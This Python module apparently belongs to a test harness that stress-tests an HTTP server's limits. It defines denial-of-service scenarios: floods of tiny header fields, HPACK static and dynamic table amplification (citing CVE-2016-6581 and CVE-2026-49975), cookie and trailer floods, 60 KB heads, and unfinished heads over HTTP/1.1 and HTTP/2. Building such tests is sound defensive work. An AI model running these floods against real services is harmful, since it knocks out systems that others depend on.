"""Attacks with heads and trailers of requests: many tiny fields, and large heads in flight."""
from . import wire
from .attack import attack
from .uploads import STREAMS


def one_head(head):
    def source(connection):
        yield head

    return source


def streams(block_of, first=b"", flags=wire.END_STREAM | wire.END_HEADERS, after=lambda stream: b""):
    """An HTTP/2 connection with a request on each of 100 streams.

    block_of: called with whether it is the first of the connection, returns the header block
    """

    def source(connection):
        yield wire.hello() + first
        for number, stream in enumerate(STREAMS):
            yield in_frames(stream, block_of(number == 0), flags) + after(stream)

    return source


def in_frames(stream, block, flags):
    """HEADERS, followed by CONTINUATION if one frame is too small."""
    parts = [block[at:at + 16_384] for at in range(0, len(block), 16_384)]
    frames = wire.headers(stream, parts[0], flags if len(parts) == 1 else flags & ~wire.END_HEADERS)
    for number, part in enumerate(parts[1:], 2):
        frames += wire.frame(wire.CONTINUATION, wire.END_HEADERS if number == len(parts) else 0, stream, part)
    return frames


@attack("fields-http1", short=True)
def fields_http1(on):
    """250 connections, each with a request of 16,000 fields `a:`, which the backend never answers"""
    on.http1(on.size(250, 40), one_head(wire.request("/silent/", b"a:\r\n" * 16_000)))
    on.go()


@attack("fields-static", short=True)
def fields_static(on):
    """80 connections of 100 streams, each request of 1,800 references of one byte to an entry of HPACK's static table
    (CVE-2016-6581, CVE-2026-49975); the backend never answers"""
    on.http2(on.size(80, 10), streams(lambda first: wire.block("/silent2/", wire.indexed(wire.AGE) * 1_800)))
    on.go(seconds=40)


@attack("fields-dynamic", short=True)
def fields_dynamic(on):
    """as fields-static, with references to an entry of 4 KB in the dynamic table: 7 MB a request"""

    def block(first):
        return wire.block("/silent2/", (wire.added(b"a", b"v" * 4_000) if first else b"") + wire.indexed(62) * 1_800)

    on.http2(on.size(80, 10), streams(block))
    on.go(seconds=40)


@attack("fields-dynamic-fit")
def fields_dynamic_fit(on):
    """as fields-dynamic, with 14 references: 56 KB a request, below the limit for heads"""

    def block(first):
        return wire.block("/silent2/", (wire.added(b"a", b"v" * 4_000) if first else b"") + wire.indexed(62) * 14)

    on.http2(on.size(80, 10), streams(block))
    on.go(seconds=40)


@attack("cookies", short=True)
def cookies(on):
    """80 connections of 100 streams, each request with 1,500 fields `cookie: a=b` (CVE-2026-49975)"""

    def block(first):
        return wire.block("/silent2/", (wire.added(b"cookie", b"a=b") if first else b"") + wire.indexed(62) * 1_500)

    on.http2(on.size(80, 10), streams(block))
    on.go(seconds=40)


@attack("trailers-http1")
def trailers_http1(on):
    """250 connections, each with 16,000 trailers `a:` behind a body"""
    head = wire.request("/silent/", b"Transfer-Encoding: chunked\r\n", "POST")
    on.http1(on.size(250, 40), one_head(head + wire.chunk(b"x") + b"0\r\n" + b"a:\r\n" * 16_000 + b"\r\n"))
    on.go()


@attack("trailers-http2", short=True)
def trailers_http2(on):
    """80 connections of 100 streams, each with 1,800 trailers of one byte behind a body"""
    trailers = wire.indexed(wire.AGE) * 1_800
    on.http2(on.size(80, 10), streams(
        lambda first: wire.block("/silent2/", method="POST"), flags=wire.END_HEADERS,
        after=lambda stream: wire.data(stream, b"x") + wire.headers(stream, trailers)))
    on.go(seconds=40)


LARGE = b"".join(b"x-%02d: %s\r\n" % (number, b"v" * 4_080) for number in range(15))  # 60 KB
LARGE_BLOCK = b"".join(wire.literal(b"x-%02d" % number, b"v" * 4_050) for number in range(15))


@attack("heads-http1", short=True, megabytes=80)
def heads_http1(on):
    """1,000 connections, each with a head of 60 KB, which the backend never answers"""
    on.http1(on.size(1_000, 150), one_head(wire.request("/silent/", LARGE)))
    on.go(seconds=30)


@attack("heads-http2", megabytes=260)
def heads_http2(on):
    """40 connections of 100 streams, each request with a head of 60 KB, which the backend never answers"""
    on.http2(on.size(40, 4), streams(lambda first: wire.block("/silent2/", LARGE_BLOCK)))
    on.go(seconds=40)


@attack("heads-connecting", megabytes=80)
def heads_connecting(on):
    """as heads-http1, while the connection to the backend is still being opened"""
    on.http1(on.size(1_000, 150), one_head(wire.request("/hole/", LARGE)))
    on.go(seconds=30)


@attack("heads-partial", short=True, megabytes=80)
def heads_partial(on):
    """1,000 connections that send 60 KB of a head and not its end"""
    on.http1(on.size(1_000, 200), one_head(wire.request("/silent/", LARGE)[:-2]))
    on.go(seconds=30)


@attack("heads-partial2", megabytes=80)
def heads_partial2(on):
    """1,000 connections that send 60 KB of a header block of HTTP/2 and not its end"""

    def source(connection):
        yield wire.hello() + in_frames(1, wire.block("/silent2/", LARGE_BLOCK), wire.END_STREAM)[:-60]

    on.http2(on.size(1_000, 200), source)
    on.go(seconds=30)
